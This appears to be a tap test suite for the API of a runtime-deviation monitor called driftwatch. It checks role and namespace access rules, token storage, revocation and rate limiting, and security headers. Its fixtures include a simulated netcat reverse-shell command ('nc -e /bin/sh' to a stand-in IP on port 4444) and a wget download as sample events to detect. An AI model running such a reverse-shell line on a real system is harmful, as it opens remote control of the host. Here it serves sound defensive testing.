import t from 'tap';
import { learnScene, proc, startHarness, T0, HOUR } from '../../helpers/api-harness.js';

const RANK = ['viewer', 'analyst', 'approver', 'admin'] as const;

t.test('every route: 401 without a valid token, 403 below its role, never 401/403 at or above it', async (t) => {
  const h = await startHarness(t);
  const { web } = await learnScene(h);
  await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget', 'http://203.0.113.50/x'));
  const doc = (await h.call('GET', '/api/v1/openapi.json', { token: null })).body as {
    paths: Record<string, Record<string, { 'x-driftwatch-role': string }>>;
  };
  const victim = (await h.store.tokens.create({ name: 'to-revoke', role: 'viewer', createdBy: 'test' })).info.tokenId;
  let routes = 0;
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      routes += 1;
      const url = '/api/v1' + path.replace('{id}', path.startsWith('/tokens') ? String(victim) : '1');
      const role = op['x-driftwatch-role'];
      const body = method === 'get' ? undefined : {};
      if (role === 'public') {
        t.equal((await h.call(method.toUpperCase(), url, { token: null })).status, 200, `${method} ${path} is public`);
        continue;
      }
      const none = await h.call(method.toUpperCase(), url, { token: null, body });
      t.equal(none.status, 401, `${method} ${path} without a token`);
      t.equal(none.body.code, 'DW_ERR_UNAUTHENTICATED');
      const bad = await h.call(method.toUpperCase(), url, { token: 'dw_' + 'A'.repeat(43), body });
      t.equal(bad.status, 401, `${method} ${path} with an unknown token`);
      const need = RANK.indexOf(role as (typeof RANK)[number]);
      t.ok(need >= 0, `${path} documents its role`);
      for (const [i, r] of RANK.entries()) {
        const res = await h.call(method.toUpperCase(), url, { token: h.tokens[r], body });
        if (i < need) {
          t.equal(res.status, 403, `${method} ${path} as ${r}`);
          t.equal(res.body.code, 'DW_ERR_FORBIDDEN_ROLE');
        } else t.notOk([401, 403].includes(res.status), `${method} ${path} as ${r}: ${res.status}`);
      }
    }
  }
  t.ok(routes >= 20, `${routes} routes checked`);
});

t.test('namespace-scoped tokens see and change only their namespaces', async (t) => {
  const h = await startHarness(t);
  const { web, worker } = await learnScene(h);
  const a = await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget'));
  const b = await h.raise(proc(worker, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'));
  const scoped = h.tokens.scoped;

  const list = await h.call('GET', '/api/v1/deviations', { token: scoped });
  t.same(
    list.body.items.map((d: { id: number }) => d.id),
    [a.id],
    'the list holds team-a only',
  );
  // Another namespace's thing, addressed by id, is answered exactly like one that does not exist.
  const unseen = async (method: string, path: string, token: string, message: string, body?: unknown): Promise<void> => {
    const r = await h.call(method, path, { token, body });
    t.same([r.status, r.body], [404, { code: 'DW_ERR_NOT_FOUND', message }], `${method} ${path}: 404 as if absent`);
  };
  await unseen('GET', `/api/v1/deviations/${b.id}`, scoped, `no deviation ${b.id}`);
  await unseen('GET', '/api/v1/deviations/999999', scoped, 'no deviation 999999');
  t.equal((await h.call('GET', '/api/v1/deviations?namespace=team-b', { token: scoped })).status, 403, 'naming another namespace yourself is refused');
  await unseen('POST', `/api/v1/deviations/${b.id}/ack`, h.tokens.scopedAnalyst, `no deviation ${b.id}`, {});
  t.equal((await h.call('POST', `/api/v1/deviations/${a.id}/ack`, { token: h.tokens.scopedAnalyst, body: {} })).status, 200);

  const workerBaseline = await h.baselineOf(worker);
  await unseen('GET', `/api/v1/baselines/${workerBaseline}`, scoped, `no baseline ${workerBaseline}`);
  await unseen('POST', `/api/v1/baselines/${workerBaseline}/approve`, scoped, `no baseline ${workerBaseline}`, { version: 1, comment: 'reviewed the items' });
  const workerWorkload = (await h.store.workloads.find(worker))!;
  await unseen('GET', `/api/v1/workloads/${workerWorkload}/baselines`, scoped, `no workload ${workerWorkload}`);
  t.equal((await h.call('POST', '/api/v1/baselines/approve-namespace', { token: scoped, body: { namespace: 'team-b', comment: 'x' } })).status, 403);
  t.equal((await h.call('POST', '/api/v1/baselines/relearn-namespace', { token: scoped, body: { namespace: 'team-b', comment: 'learn it all again' } })).status, 403, 'nor relearn another namespace');
  const workloads = await h.call('GET', '/api/v1/workloads', { token: scoped });
  t.same(
    workloads.body.items.map((w: { workload: { namespace: string } }) => w.workload.namespace),
    ['team-a'],
  );

  // The audit log: team-b's viewer does not see team-a's acknowledgement.
  t.equal((await h.call('GET', '/api/v1/audit', { token: h.tokens.otherViewer })).body.items.length, 0);
  t.equal((await h.call('GET', '/api/v1/audit', { token: scoped })).body.items.length, 1);
  const overview = await h.call('GET', `/api/v1/overview?from=${T0}&to=${T0 + 4 * HOUR}`, { token: h.tokens.otherViewer });
  t.same(
    overview.body.byNamespace.map((n: { namespace: string }) => n.namespace),
    ['team-b'],
  );
});

t.test('tokens: hashed at rest, revocation and expiry take effect, failures are rate limited', async (t) => {
  const h = await startHarness(t, { authFailuresPerMinute: 30 });
  const created = await h.call('POST', '/api/v1/tokens', { body: { name: 'ci-bot', role: 'viewer', namespaces: ['team-a'] } });
  t.equal(created.status, 200);
  const token = created.body.token as string;
  t.match(token, /^dw_[A-Za-z0-9_-]{43}$/);
  const stored = h.store.connection.all<{ token_hash: string }>('SELECT token_hash FROM api_tokens');
  t.notOk(
    stored.some((r) => r.token_hash.includes(token) || r.token_hash.includes(token.slice(3))),
    'the token itself is not stored',
  );
  t.equal((await h.call('GET', '/api/v1/me', { token })).body.name, 'ci-bot');
  t.equal((await h.call('GET', '/api/v1/tokens')).body.items.some((i: Record<string, unknown>) => 'token' in i || 'token_hash' in i), false, 'listing shows no secret');
  t.equal((await h.call('POST', '/api/v1/tokens', { body: { name: 'ci-bot', role: 'viewer' } })).status, 409, 'names are unique');
  t.equal((await h.call('DELETE', `/api/v1/tokens/${created.body.info.tokenId}`)).status, 200);
  t.equal((await h.call('GET', '/api/v1/me', { token })).status, 401, 'a revoked token stops working');

  const expired = (await h.store.tokens.create({ name: 'old', role: 'admin', createdBy: 'test', expiresAt: new Date(Date.now() - 1000).toISOString() }));
  t.equal((await h.call('GET', '/api/v1/me', { token: expired.token })).status, 401, 'an expired token stops working');

  let limited = 0;
  for (let i = 0; i < 35; i++) if ((await h.call('GET', '/api/v1/me', { token: 'dw_' + 'B'.repeat(43) })).status === 429) limited++;
  t.ok(limited > 0, 'repeated failures from one address get 429');
  t.equal((await h.call('GET', '/api/v1/me', { token: 'dw_' + 'B'.repeat(43) })).body.code, 'DW_ERR_RATE_LIMITED');
});

t.test('security headers and coded errors', async (t) => {
  const h = await startHarness(t);
  for (const path of ['/api/v1/me', '/api/v1/nope', '/ui/', '/ui/app.js']) {
    const r = await h.call('GET', path);
    t.equal(r.headers.get('content-security-policy')?.startsWith("default-src 'self'; script-src 'self'; object-src 'none'; frame-ancestors 'none'"), true, `CSP on ${path}`);
    t.equal(r.headers.get('x-content-type-options'), 'nosniff');
  }
  const notFound = await h.call('GET', '/api/v1/nope');
  t.same(notFound.body, { code: 'DW_ERR_NOT_FOUND', message: 'no route GET /api/v1/nope' });
  t.equal((await h.call('GET', '/api/v1/deviations?severity=urgent')).body.code, 'DW_ERR_VALIDATION');
  t.equal((await h.call('GET', '/api/v1/deviations?cursor=%%%')).body.code, 'DW_ERR_BAD_CURSOR');
  t.equal((await h.call('GET', '/api/v1/deviations/abc')).body.code, 'DW_ERR_VALIDATION');
  const raw = await fetch(`${h.base}/api/v1/baselines/1/approve`, { method: 'POST', headers: { authorization: `Bearer ${h.tokens.admin}`, 'content-type': 'application/json' }, body: '{"version":' });
  t.equal(((await raw.json()) as { code: string }).code, 'DW_ERR_VALIDATION', 'malformed JSON');
  const text = await fetch(`${h.base}/api/v1/baselines/1/approve`, { method: 'POST', headers: { authorization: `Bearer ${h.tokens.admin}`, 'content-type': 'text/plain' }, body: 'x' });
  t.equal(text.status, 415);
  const big = await fetch(`${h.base}/api/v1/baselines/1/what-if`, { method: 'POST', headers: { authorization: `Bearer ${h.tokens.admin}`, 'content-type': 'application/json' }, body: JSON.stringify({ yaml: 'x'.repeat(2 * 1024 * 1024) }) });
  t.equal(big.status, 413);
  const html = await h.call('GET', '/ui/');
  t.match(html.text, '<script type="module" src="app.js"></script>');
  t.notMatch(html.text, /<script>|<script [^>]*>[^<]|\son\w+=|javascript:/i, 'the page has no inline script or handlers');
});
